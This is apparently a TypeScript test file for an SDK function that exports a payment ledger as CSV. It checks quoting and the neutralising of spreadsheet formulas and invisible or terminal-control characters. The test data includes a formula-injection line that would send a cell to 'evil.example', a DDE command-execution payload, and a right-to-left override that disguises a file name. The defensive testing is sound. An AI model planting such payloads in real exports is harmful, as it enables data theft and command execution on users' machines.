import { type LedgerEntry, ledgerToCsv } from "@latchkey/sdk";
import { expect } from "chai";
import { entry } from "./entries.ts";

/** Reads CSV as RFC 4180 has it: every field in quotes here, lines that end in CRLF. */
function records(csv: string): string[][] {
  const read: string[][] = [];
  let rest = csv;
  while (rest !== "") {
    const record: string[] = [];
    for (;;) {
      const [whole, text] = /^"((?:[^"]|"")*)"/.exec(rest) ?? [];
      if (whole === undefined || text === undefined) throw new Error(`no field at ${rest.slice(0, 40)}`);
      record.push(text.replaceAll('""', '"'));
      rest = rest.slice(whole.length);
      if (rest.startsWith("\r\n")) break;
      if (!rest.startsWith(",")) throw new Error(`no comma at ${rest.slice(0, 40)}`);
      rest = rest.slice(1);
    }
    rest = rest.slice(2);
    read.push(record);
  }
  return read;
}
const rowsOf = (entries: readonly LedgerEntry[]) => {
  const [header = [], ...rows] = records(ledgerToCsv(entries));
  return rows.map((row) => Object.fromEntries(header.map((name, at) => [name, row[at]])));
};

describe("a ledger as CSV", () => {
  it("has a header, and one line for each entry with every column", () => {
    const full = entry("one", {
      status: "settled",
      shownBy: "chain",
      closedAt: "2026-11-30T10:00:01.000Z",
      purpose: "weather for Bern",
      transaction: `0x${"ab".repeat(32)}`,
      receipt: '{"success":true}',
      idempotencyKey: "order 17",
      paidAmount: "0.03",
      paidUnits: "30000",
    });
    expect(rowsOf([full, entry("two")])).to.deep.equal([
      {
        id: "one",
        kind: "x402",
        status: "settled",
        "shown by": "chain",
        what: "https://shop.example/weather",
        purpose: "weather for Bern",
        to: full.to,
        token: full.token,
        symbol: "USDC",
        amount: "0.2",
        units: "200000",
        "paid amount": "0.03",
        "paid units": "30000",
        chain: "8453",
        account: full.account,
        "signed at": full.at,
        "closed at": full.closedAt,
        transaction: full.transaction,
        receipt: full.receipt,
        session: full.session,
        budget: "0",
        idempotencyKey: "order 17",
      },
      {
        ...Object.fromEntries(
          [
            "shown by",
            "purpose",
            "paid amount",
            "paid units",
            "closed at",
            "transaction",
            "receipt",
            "idempotencyKey",
          ].map((name) => [name, ""]),
        ),
        id: "two",
        kind: "x402",
        status: "open",
        what: full.what,
        to: full.to,
        token: full.token,
        symbol: "USDC",
        amount: "0.2",
        units: "200000",
        chain: "8453",
        account: full.account,
        "signed at": full.at,
        session: full.session,
        budget: "0",
      },
    ]);
  });

  it("has only its header where nothing was moved", () => {
    expect(ledgerToCsv([])).to.match(/^"id","kind",.*"idempotencyKey"\r\n$/);
  });

  const texts = ["receipt", "purpose", "what", "symbol", "idempotencyKey"] as const;
  const formulas = [
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "  =1+1",
    "\u00a0=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "'=1+1",
    '"=1+1',
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(A1)",
  ];
  for (const formula of formulas)
    it(`has no formula in a merchant's text ${JSON.stringify(formula)}`, () => {
      for (const name of texts) {
        const csv = ledgerToCsv([entry("one", { [name]: formula })]);
        const [row] = rowsOf([entry("one", { [name]: formula })]);
        // What a spreadsheet sees, also one that drops blanks and quotes.
        expect(row?.[name]?.replace(/^[\s"]*/u, ""), name).not.to.match(/^[=+\-@\uff1d\uff0b\uff0d\uff20]/u);
        // Nor where a program splits at separators without respect for quotes.
        for (const cell of csv.split(/[\r\n\t]/)) expect(cell).to.match(/^("|$)/);
      }
    });

  it("keeps a merchant's quotes, commas and line ends inside their field", () => {
    const receipt = '","settled","\r\n"id9","x402"\n,;';
    const rows = rowsOf([entry("one", { receipt }), entry("two")]);
    expect(rows.map(({ id, status }) => [id, status])).to.deep.equal([
      ["one", "open"],
      ["two", "open"],
    ]);
    expect(rows[0]?.receipt).to.equal('","settled","\\u000d\\u000a"id9","x402"\\u000a,;');
    expect(ledgerToCsv([entry("one", { receipt })]).split("\r\n")).to.have.length(3);
  });

  it("shows what would not be seen: escapes of terminals, directions, invisible and half characters", () => {
    for (const [text, shown] of [
      ["\u001b[2Jgone", "\\u001b[2Jgone"],
      ["\u009b31mred", "\\u009b31mred"],
      ["\u0000\u0007", "\\u0000\\u0007"],
      ["a\u202egnp.exe", "a\\u202egnp.exe"],
      ["a\u2066b\u2069", "a\\u2066b\\u2069"],
      ["a\u200fb\u061c", "a\\u200fb\\u061c"],
      ["a\u200bb\u00ad", "a\\u200bb\\u00ad"],
      ["a\u2028b\u2029", "a\\u2028b\\u2029"],
      ["half \ud83d", "half \\ud83d"],
      ["tag \u{e0041}", "tag \\udb40\\udc41"],
    ] as const)
      for (const name of texts) expect(rowsOf([entry("one", { [name]: text })])[0]?.[name]).to.equal(shown);
  });

  it("leaves people's own words as they are", () => {
    const purpose = 'Grüße, "Zürich" 🌦️ 天気 – 100% = 5 + 3 @ noon';
    expect(rowsOf([entry("one", { purpose })])[0]?.purpose).to.equal(purpose);
  });
});
